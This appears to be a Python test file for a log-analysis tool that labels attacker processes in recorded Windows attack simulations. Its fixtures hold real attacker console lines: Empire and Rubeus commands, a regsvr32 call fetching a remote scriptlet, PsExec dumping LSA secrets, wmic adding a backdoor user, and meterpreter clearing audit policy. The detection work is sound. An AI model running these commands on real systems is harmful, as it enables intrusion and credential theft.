"""The OTRF attacker-labelling rule (bench/paths.py): commands, tools, agents, descendants."""

from pathlib import Path

import pandas as pd
import yaml

from logguard.events.readers import read_frame
from logguard.graph.otrf_labels import (
    agent_processes,
    attacker_guids,
    command_tools,
    console_commands,
    launcher_payload,
    meterpreter_processes,
)

ATOMIC = Path(__file__).resolve().parents[3] / "shared" / "data" / "otrf" / "atomic"

VIEW = r"""
[*] Active agents:
Name     La Internal IP     Machine Name      Username                Process      PID    Delay
62HY9XCK ps 172.18.39.5     WORKSTATION5      *THESHIRE\pgustavo      powershell   3172   5/0.0
(Empire: agents) > interact 62HY9XCK
(Empire: 62HY9XCK) > usemodule management/psinject
(Empire: powershell/management/psinject) > set ProcName notepad
(Empire: 62HY9XCK) > shell net user /domain
(wardog) > ShellCmd /shellcommand:"C:\Tools\Rubeus.exe asktgt /user:x"
PS C:\Windows\System32> .\regsvr32.exe /s /n /u /i:http://10.10.10.5/launcher.sct scrobj.dll
"""


def test_commands_tools_and_agents_are_read_from_the_console():
    commands = console_commands(VIEW)
    assert commands == ["notepad.exe", "net user /domain", r"C:\Tools\Rubeus.exe asktgt /user:x",
                        r".\regsvr32.exe /s /n /u /i:http://10.10.10.5/launcher.sct scrobj.dll"]
    assert command_tools(commands) == {"notepad.exe", "net.exe", "rubeus.exe", "regsvr32.exe"}
    assert agent_processes(VIEW) == [("workstation5", "powershell", 3172)]


def _row(guid, image, action="registry_set", child=None, child_image=None, cmd=None, pid=None,
         host="WORKSTATION5.theshire.local"):
    return {"host": host, "process_guid": guid, "process_id": pid, "image": image,
            "action": action, "object_name": child_image, "object_guid": child,
            "object_command_line": cmd}


def test_seeds_and_their_descendants_are_attackers_and_nothing_else():
    events = pd.DataFrame([
        _row("{A}", r"C:\w\powershell.exe", pid=3172),  # the agent (by pid, image, machine)
        _row("{A}", r"C:\w\powershell.exe", "process_start", "{B}", r"C:\w\whoami.exe", "whoami"),
        _row("{B}", r"C:\w\whoami.exe", "process_start", "{C}", r"C:\w\conhost.exe", "conhost"),
        _row("{X}", r"C:\w\explorer.exe", "process_start", "{N}", r"C:\w\net.exe",
             "net user /domain"),
        _row("{X}", r"C:\w\explorer.exe", "process_start", "{Q}", r"C:\w\calc.exe", "calc"),
        _row("{Y}", r"C:\w\powershell.exe", pid=3172, host="OTHERHOST"),  # wrong machine
    ])
    assert attacker_guids(events, VIEW) == {"{a}", "{b}", "{c}", "{n}"}


def test_a_real_recording_gets_its_attack_tool():
    recording = ATOMIC / "windows" / "credential_access" / "host" / "cmd_sam_copy_esentutl.zip"
    events = read_frame(recording, "sysmon")
    assert attacker_guids(events, _view_of(recording)) == {
        "{39e4a257-15ef-5f8d-e704-000000000700}"}


METERPRETER_VIEW = """
meterpreter > shell
Process 1912 created.
Channel 1 created.
C:\\Users\\pedro\\Downloads>wevtutil get-log Security
meterpreter > execute -f auditpol.exe -H -a '/clear /y'
Process 7016 created.
meterpreter > getuid
"""


def test_launchers_name_their_payload_program():
    psexec = r"PsExec.exe -accepteula -s reg save HKLM\security\policy\secrets %temp%\secrets"
    wmic = 'wmic /node:WORKSTATION6 process call create "net user /add backdoor pa$$w0rd1"'
    remote = r"psexec64 \\host -u admin -p secret -d C:\Tools\x.exe /q"
    assert [launcher_payload(c) for c in (psexec, wmic, remote, "net user", "psexec -s")] == [
        "reg", "net", r"C:\Tools\x.exe", None, None]
    assert command_tools([psexec, wmic, remote]) == {
        "psexec.exe", "reg.exe", "wmic.exe", "net.exe", "psexec64.exe", "x.exe"}


def test_meterpreter_reports_the_processes_it_created():
    assert meterpreter_processes(METERPRETER_VIEW) == [("cmd.exe", 1912), ("auditpol.exe", 7016)]
    events = pd.DataFrame([
        _row("{M}", r"C:\Users\pedro\Downloads\payload.exe", "process_start", "{S}",
             r"C:\Windows\System32\cmd.exe", r"C:\Windows\system32\cmd.exe"),
        _row("{S}", r"C:\Windows\System32\cmd.exe", "process_start", "{W}",
             r"C:\Windows\System32\wevtutil.exe", "wevtutil get-log Security"),
        _row("{X}", r"C:\w\explorer.exe", "process_start", "{O}", r"C:\w\cmd.exe", "cmd"),
        _row("{X}", r"C:\w\explorer.exe", "process_start", "{P}", r"C:\w\notepad.exe", "np"),
    ]).assign(object_process_id=[1912, 2000, 3000, 7016])
    # {S}: cmd.exe with the reported PID; {W} its child (and a console command); {O}: another
    # cmd.exe; {P}: the reported PID of auditpol, but another image
    assert attacker_guids(events, METERPRETER_VIEW) == {"{s}", "{w}"}


def _view_of(recording: Path) -> str:
    view = next(
        (record["simulation"]["adversary_view"]
         for path in sorted((ATOMIC / "_metadata").glob("SDWIN-*.yaml"))
         for record in [yaml.safe_load(path.read_text())]
         if any(str(f.get("link", "")).endswith(recording.name) for f in record.get("files") or [])
         and (record.get("simulation") or {}).get("adversary_view")), None)
    assert view is not None
    return view


def test_psexec_payload_and_meterpreter_shell_on_real_recordings():
    psexec = ATOMIC / "windows" / "credential_access" / "host" / "cmd_psexec_lsa_secrets_dump.zip"
    # PsExec.exe; reg.exe, started by the PSEXESVC service; reg.exe's conhost.exe
    assert attacker_guids(read_frame(psexec, "sysmon"), _view_of(psexec)) == {
        "{39e4a257-40a6-5f8d-a005-000000000700}", "{39e4a257-40a6-5f8d-a205-000000000700}",
        "{39e4a257-40a6-5f8d-a305-000000000700}"}
    wevtutil = (ATOMIC / "windows" / "defense_evasion" / "host"
                / "cmd_wevtutil_modify_security_eventlog_path.zip")
    events = read_frame(wevtutil, "sysmon")
    found = attacker_guids(events, _view_of(wevtutil))
    starts = events[events["action"] == "process_start"]
    shell = starts[starts["object_process_id"] == 1912]
    assert set(shell["object_guid"].str.lower()) == {"{01e2a015-a68d-62c4-a807-000000000700}"}
    assert len(found) == 5 and shell["object_guid"].str.lower().iloc[0] in found
